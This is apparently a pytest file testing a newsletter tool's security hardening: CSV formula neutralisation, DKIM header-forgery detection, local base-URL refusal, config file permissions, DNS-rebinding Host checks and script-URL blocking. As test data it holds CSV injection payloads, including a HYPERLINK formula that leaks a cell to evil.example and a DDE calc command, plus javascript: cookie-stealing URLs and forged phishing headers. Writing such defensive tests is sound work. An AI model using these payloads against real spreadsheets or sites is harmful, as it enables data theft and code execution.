"""Smaller hardening: CSV export, DKIM oversigning, base_url for real sends, the config
file's mode, the preview server's Host check, script URLs, the archive's dates, workers
draining the signup queue."""

from __future__ import annotations

import base64
import csv
import email
import email.policy
import io
import stat
import threading
import urllib.error
import urllib.request

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from newsletter.cli import main
from newsletter.config import load_settings, public_base_url_problem
from newsletter.message import transactional
from newsletter.preview import PreviewServer
from newsletter.render import SAMPLE_RECIPIENT

from .helpers import ENV, SAMPLE_ISSUE, add_subscribers, write_issue
from .smtp_server import SMTPServer

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]


# -- CSV export ------------------------------------------------------------------------------
def test_export_neutralises_formulas_unless_raw(cli):
    for number, name in enumerate(HOSTILE_NAMES):
        cli("subscribers", "add", f"r{number}@example.com", "--name", name)
    cli("subscribers", "add", "plain@example.com", "--name", "Ana López")
    rows = list(csv.DictReader(io.StringIO(cli("subscribers", "export").stdout)))
    names = {row["email"]: row["name"] for row in rows}
    for number, name in enumerate(HOSTILE_NAMES):
        assert names[f"r{number}@example.com"] == "'" + name  # shown as text, never evaluated
    assert names["plain@example.com"] == "Ana López"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    raw = {
        row["email"]: row["name"] for row in csv.DictReader(io.StringIO(cli("subscribers", "export", "--raw").stdout))
    }
    assert raw["r0@example.com"] == HOSTILE_NAMES[0]


# -- DKIM --------------------------------------------------------------------------------------
@pytest.fixture
def dkim_key(tmp_path, monkeypatch):
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
    )
    (tmp_path / "dkim.pem").write_bytes(pem)
    public = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    record = b"v=DKIM1; k=rsa; p=" + base64.b64encode(public)
    monkeypatch.setenv("NEWSLETTER_DKIM_SELECTOR", "nl2026")
    monkeypatch.setenv("NEWSLETTER_DKIM_PRIVATE_KEY", str(tmp_path / "dkim.pem"))
    return lambda name, timeout=5: record if name == b"nl2026._domainkey.calmharbor.example." else None


def test_every_message_is_signed_and_prepended_headers_break_the_signature(cli, send_env, monkeypatch, dkim_key):
    import dkim

    add_subscribers(cli.database_url, ["a@example.com"])
    with SMTPServer() as server:
        monkeypatch.setenv("NEWSLETTER_SMTP_URL", server.url)
        cli("send", str(SAMPLE_ISSUE), "--yes")
        cli("send", str(SAMPLE_ISSUE), "--test-to", "staff@calmharbor.example")
        campaign_message, proof = server.handler.raw
    confirmation = transactional(
        load_settings(), "new@example.com", "", "Please confirm", "Confirm: https://x.example/c", "<p>Confirm</p>"
    ).as_bytes()
    for raw in (campaign_message, proof, confirmation):
        assert raw.startswith(b"DKIM-Signature:")
        assert dkim.verify(raw, dnsfunc=dkim_key)
        signature, rest = raw.split(b"\r\nFrom: ", 1)
        for forged in (b"Subject: Your account is locked", b"From: Security <security@evil.example>"):
            assert not dkim.verify(signature + b"\r\n" + forged + b"\r\nFrom: " + rest, dnsfunc=dkim_key)
    forged = campaign_message.replace(
        b"\r\nList-Unsubscribe: ", b"\r\nList-Unsubscribe: <https://evil.example/u>\r\nList-Unsubscribe: ", 1
    )
    assert not dkim.verify(forged, dnsfunc=dkim_key)


# -- base_url of a real send -------------------------------------------------------------------
@pytest.mark.parametrize(
    "base_url",
    [
        "http://news.calmharbor.example",
        "https://127.0.0.1:8000",
        "https://localhost",
        "https://10.1.2.3",
        "https://[::1]",
        "https://localhost.",
        "https://127.0.0.1.",
        "https://192.168.1.1./news",
    ],
)
def test_public_base_url_problem(base_url):
    assert public_base_url_problem(base_url)


def test_public_base_url_accepts_a_public_https_address():
    assert public_base_url_problem("https://news.calmharbor.example") is None
    assert public_base_url_problem("https://93.184.215.14/news") is None


def test_real_send_refuses_a_local_base_url_unless_told(cli, send_env, monkeypatch):
    add_subscribers(cli.database_url, ["a@example.com"])
    monkeypatch.setenv("NEWSLETTER_BASE_URL", "http://127.0.0.1:8000")
    with SMTPServer() as server:
        monkeypatch.setenv("NEWSLETTER_SMTP_URL", server.url)
        refused = cli("send", str(SAMPLE_ISSUE), "--yes", expect=1)
        assert "refusing a real send" in refused.stderr and "--insecure-base-url" in refused.stderr
        assert server.handler.raw == []
        assert "Dry run" in cli("send", str(SAMPLE_ISSUE), "--dry-run").stdout  # sends nothing: fine
        cli("send", str(SAMPLE_ISSUE), "--yes", "--insecure-base-url")
        assert len(server.handler.raw) == 1
        # What sends a campaign's messages later makes its links then: the same check.
        for later in (["campaigns", "resume", "1"], ["campaigns", "retry", "1", "--unknown"]):
            refused = cli(*later, expect=1)
            assert "refusing a real send" in refused.stderr and "--insecure-base-url" in refused.stderr
            cli(*later, "--insecure-base-url")
        assert len(server.handler.raw) == 1
    monkeypatch.setenv("NEWSLETTER_ADAPTER", "outbox")  # the outbox is not a real send
    cli("send", str(SAMPLE_ISSUE), "--yes", "--again")


# -- newsletter.toml ---------------------------------------------------------------------------
def test_init_writes_the_config_readable_by_its_owner_only(workdir, monkeypatch):
    import os

    monkeypatch.delenv("NEWSLETTER_SECRET_KEY")
    old = os.umask(0o022)
    try:
        result = CliRunner().invoke(main, ["--database-url", f"sqlite:///{workdir / 'db.sqlite'}", "init"])
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE((workdir / "newsletter.toml").stat().st_mode) == 0o600


# -- preview --serve -----------------------------------------------------------------------------
def test_preview_server_answers_only_its_own_host_names(workdir):
    server = PreviewServer(load_settings(environ=ENV), SAMPLE_ISSUE, SAMPLE_RECIPIENT, 0)
    assert server.httpd.server_address[0] == "127.0.0.1"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        port = server.httpd.server_address[1]

        def get(host: str) -> int:
            request = urllib.request.Request(server.url, headers={"Host": host})
            try:
                return urllib.request.urlopen(request, timeout=10).status
            except urllib.error.HTTPError as exc:
                return exc.code

        assert get(f"127.0.0.1:{port}") == 200
        assert get(f"localhost:{port}") == 200
        assert get(f"attacker.example:{port}") == 421  # DNS rebinding: a foreign name for 127.0.0.1
        assert get("127.0.0.1") == 421
    finally:
        server.shutdown()


# -- script URLs --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox",
    ],
)
def test_script_urls_are_refused_even_with_force(cli, workdir, monkeypatch, url):
    for name, value in ENV.items():
        monkeypatch.setenv(name, value)
    add_subscribers(cli.database_url, ["a@example.com"])
    issue = write_issue(workdir, f"::: cta\ntext: Book now\nurl: {url}\n:::\n")
    for command in (["render", str(issue)], ["send", str(issue), "--yes", "--force"]):
        result = cli(*command, expect=1)
        assert f"test-issue.md:7: refusing a {url.split(':')[0].lower()}: URL" in result.stderr
    image = write_issue(workdir, "![pixel](data:image/png;base64,iVBORw0KGgo=)\n", name="image-issue")
    assert "refusing a data: URL" in cli("render", str(image), expect=1).stderr


# -- the archive ----------------------------------------------------------------------------------
def test_archive_shows_the_issues_own_date(cli, workdir, monkeypatch, tmp_path):
    for name, value in ENV.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("NEWSLETTER_OUTBOX_DIR", str(tmp_path / "outbox"))
    add_subscribers(cli.database_url, ["a@example.com"])
    cli("send", str(SAMPLE_ISSUE), "--yes")  # front matter: date 2026-12-01; sent today
    from newsletter.web import create_app

    app = create_app(load_settings(overrides={"database_url": cli.database_url}), {"SIGNUP_QUEUE_THREAD": False})
    listing = app.test_client().get("/archive").get_data(as_text=True)
    assert "December 1, 2026" in listing


# -- workers send queued confirmations --------------------------------------------------------------
def test_worker_drains_the_signup_queue(postgres_url, workdir, monkeypatch, tmp_path):
    from newsletter.db import Database
    from newsletter.signups import Signups

    for name, value in ENV.items():
        monkeypatch.setenv(name, value)
    outbox = tmp_path / "outbox"
    monkeypatch.setenv("NEWSLETTER_OUTBOX_DIR", str(outbox))
    db = Database(postgres_url)
    Signups(db, load_settings(overrides={"database_url": postgres_url})).enqueue(
        "queued@example.com", "", "203.0.113.9", "consent", "web:subscribe form"
    )
    db.dispose()
    result = CliRunner().invoke(main, ["--database-url", postgres_url, "worker", "--exit-when-idle"])
    assert result.exit_code == 0, result.output
    (sent,) = (outbox / "transactional").glob("*.eml")
    message = email.message_from_bytes(sent.read_bytes(), policy=email.policy.default)
    assert message["To"].addresses[0].addr_spec == "queued@example.com"
    assert "/confirm/" in message.get_body(("plain",)).get_content()
